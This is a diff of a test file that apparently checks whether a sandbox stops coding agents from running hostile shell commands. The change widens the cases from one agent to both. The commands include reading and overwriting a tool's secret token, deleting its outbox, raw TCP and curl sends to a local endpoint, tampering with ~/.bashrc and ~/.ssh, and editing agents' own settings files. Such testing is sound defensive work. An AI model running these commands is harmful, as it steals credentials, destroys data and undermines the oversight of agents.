@@ -28,14 +28,14 @@ export const secretCases: readonly HostileCase[] = [
   },
   {
     name: "Adjutant's own files",
-    agents: codex,
+    agents: both,
     shell: `cat ${paths}; cp ${paths} .; grep -r . $OWN; tar c $OWN | strings; true`,
     quick: true,
     fires: 'agent',
   },
   {
     name: "Adjutant's own files by other paths",
-    agents: codex,
+    agents: both,
     sandboxes: writing,
     shell: [
       'ln -s $OWN/token l; cat l',
@@ -67,7 +67,7 @@ export const secretCases: readonly HostileCase[] = [
   },
   {
     name: 'changing the token and the database',
-    agents: codex,
+    agents: both,
     sandboxes: writing,
     shell: 'echo mine > $OWN/token; echo x >> $OWN/adjutant.db; rm -rf $OWN/outbox; true',
   },
@@ -80,14 +80,14 @@ export const secretCases: readonly HostileCase[] = [
   },
   {
     name: 'the network',
-    agents: codex,
+    agents: both,
     shell:
       'exec 3<>/dev/tcp/127.0.0.1/$ELSEWHEREPORT && printf "POST /v1/messages HTTP/1.0\\r\\n\\r\\n" >&3; curl -s $ELSEWHERE/v1/messages -d x; true',
     quick: true,
   },
   {
     name: 'files of the user',
-    agents: codex,
+    agents: both,
     sandboxes: writing,
     shell:
       'echo x >> $HOME/.bashrc; echo x > $HOME/.gitconfig; mkdir -p $HOME/.ssh; echo x > $OUTSIDE/new.txt; $TRAP; true',
@@ -103,7 +103,7 @@ export const secretCases: readonly HostileCase[] = [
   },
   {
     name: 'the settings of the agents',
-    agents: codex,
+    agents: both,
     sandboxes: writing,
     shell:
       'echo x >> $CODEX_HOME/config.toml; mkdir -p $HOME/.claude; echo "{}" > $HOME/.claude/settings.json; true',
